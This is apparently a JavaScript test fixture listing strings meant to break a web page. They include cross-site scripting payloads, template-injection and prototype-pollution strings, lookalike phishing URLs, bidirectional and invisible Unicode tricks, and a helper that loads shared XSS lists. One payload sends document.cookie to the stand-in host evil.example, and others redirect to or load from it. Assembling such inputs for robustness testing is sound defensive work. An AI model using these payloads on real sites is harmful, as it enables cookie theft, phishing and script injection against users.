// What people write to break a page. Of our own writing; the lists beside the repository come to it where they are.
import { existsSync, readFileSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";

const zalgo = (text) =>
  [...text].map((letter) => letter + "\u0335\u0321\u0322\u0327\u0328\u0330\u033b\u0347\u035c\u0360".repeat(6)).join("");
export const kHostile = [
  "<script>alert(document.domain)</script>",
  "</textarea></script><script>confirm(1)</script>",
  "<img src=https://evil.example/pixel.gif onerror=alert(1)>",
  "<img src=x onerror=\"fetch('https://evil.example/?'+document.cookie)\">",
  "<svg onload=alert(1)><animate onbegin=alert(2) attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>click</text></a></svg>',
  '<iframe src="javascript:alert(1)"></iframe><object data="data:text/html,<script>alert(1)</script>"></object>',
  "<a href=\"javascript:alert(1)\">a bargain</a> <a href='https://evil.example/pay'>https://paypal.com</a>",
  "<style>*{display:none!important;background:url(https://evil.example/css)}</style>",
  "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  "<form action=https://evil.example/><input name=token autofocus onfocus=alert(1)>",
  '<div onmouseover=alert(1) style="position:fixed;inset:0;z-index:99999;background:red">over it all</div>',
  "<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>",
  "\"><img src=x onerror=alert(1)>' onfocus=alert(1) autofocus x='",
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{7*7} <%= 7*7 %>",
  "javascript:alert(1)//https://evil.example/",
  "[click](javascript:alert(1)) ![pixel](https://evil.example/p.png) [url=javascript:alert(1)]x[/url]",
  "https://paypal.com@evil.example/login http://xn--pypal-4ve.com/ https://evil.example\\@paypal.com/",
  "__proto__ constructor toString hasOwnProperty",
  "a".repeat(5000),
  "\u{1F600}".repeat(800),
  zalgo("the garden of forking paths"),
  "اللغة العربية مع English و\u05e2\u05d1\u05e8\u05d9\u05ea (mixed) 123",
  "\u202e\u202dreversed \u2067isolated\u202e and never closed",
  "in\u200bvi\u200c\u200dsi\u2060ble \ufeff\u00ad\u034f soft",
  "p\u0430yp\u0430l \u0410\u0440\u0440l\u0435 \u{1D401}\u{1D42E}\u{1D432} \uff26\uff32\uff25\uff25",
  "tab\there\u0007bell\u001b[31mred\u009b31m \u2028\u2029 lines",
  "\n".repeat(300) + "far below",
  "\ud83d alone \udc00 halves",
];
// Those that turn the direction of what stands beside them.
export const kTurning = "\u202e\u202e\u2067desrever";

const kShared = fileURLToPath(new URL("../../../../shared/data/lists/bad_input", import.meta.url));
// Every line of the lists of hostile strings, once; nothing where they are not. `which`: of these files.
export function sharedStrings(which = /^xss_.*\.txt$/) {
  if (!existsSync(kShared)) return [];
  const lines = readdirSync(kShared)
    .filter((file) => which.test(file))
    .flatMap((file) => readFileSync(join(kShared, file), "utf8").split(/\r?\n/));
  return [...new Set(lines.filter((line) => line.trim()))];
}
